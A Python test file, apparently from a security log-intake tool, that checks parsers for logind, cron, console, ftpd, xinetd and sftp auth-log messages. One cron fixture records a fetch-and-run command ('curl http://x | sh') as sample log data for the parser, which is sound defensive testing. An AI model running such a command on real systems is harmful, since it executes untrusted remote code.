"""Sessions beside sshd: logind, cron, console, ftpd, xinetd, sftp."""

from __future__ import annotations

from siaga.intake.formats.syslog_auth import sessions
from siaga.intake.rows import Event


def event() -> Event:
    return Event(1, 0, 0, 0, "x", "other")


def test_logind() -> None:
    opened, closed, other = event(), event(), event()
    sessions.logind(opened, "New session 12 of user budi.")
    sessions.logind(closed, "Removed session 12.")
    sessions.logind(other, "New seat seat0.")
    assert (opened.action, opened.user, opened.detail["session"]) == ("session", "budi", "12")
    assert (closed.action, closed.detail["session"]) == ("logout", "12")
    assert other.action == "other"


def test_cron_runs_and_edits() -> None:
    run, edit = event(), event()
    sessions.cron(run, "(www-data) CMD (curl http://x | sh (a))")
    sessions.cron(edit, "(www-data) REPLACE (www-data)")
    assert (run.action, run.user, run.object) == ("other", "www-data", "curl http://x | sh (a)")
    assert (edit.action, edit.application) == ("content_change", "cron")


def test_console() -> None:
    good, root, bad = event(), event(), event()
    sessions.console(good, "LOGIN ON tty1 BY budi FROM 192.0.2.4")
    sessions.console(root, "ROOT LOGIN  on '/dev/tty1'")
    sessions.console(bad, "FAILED LOGIN (1) on '/dev/tty1' FOR 'root', Authentication failure")
    assert (good.user, good.outcome, good.client_ip) == ("budi", "success", "192.0.2.4")
    assert (root.user, root.outcome) == ("root", "success")
    assert (bad.user, bad.outcome, bad.action) == ("root", "failure", "login")


def test_ftpd_and_xinetd() -> None:
    login, refused, started = event(), event(), event()
    sessions.ftpd(login, "FTP LOGIN FROM h.example [192.0.2.4], budi")
    sessions.ftpd(refused, "FTP LOGIN REFUSED FROM h.example [192.0.2.4], root")
    sessions.xinetd(started, "START: telnet pid=7 from=192.0.2.4")
    assert (login.user, login.outcome, login.client_ip) == ("budi", "success", "192.0.2.4")
    assert (refused.user, refused.outcome) == ("root", "failure")
    assert (started.object, started.client_ip) == ("telnet", "192.0.2.4")


def test_sftp() -> None:
    messages = {
        'close "/a b.php" bytes read 0 written 482': "upload",
        'close "/b.sql" bytes read 482 written 0': "download",
        'close "/b.sql" bytes read 0 written 0': "other",
        'remove name "/a"': "delete",
        'rename old "/a" new "/b"': "rename",
        'mkdir name "/a" mode 0755': "make_folder",
        "session opened for local user budi from [192.0.2.4]": "session",
        "session closed for local user budi from [192.0.2.4]": "logout",
        'open "/a" flags WRITE,CREATE mode 0644': "other",
    }
    for message, action in messages.items():
        said = event()
        sessions.sftp(said, message)
        assert said.action == action, message
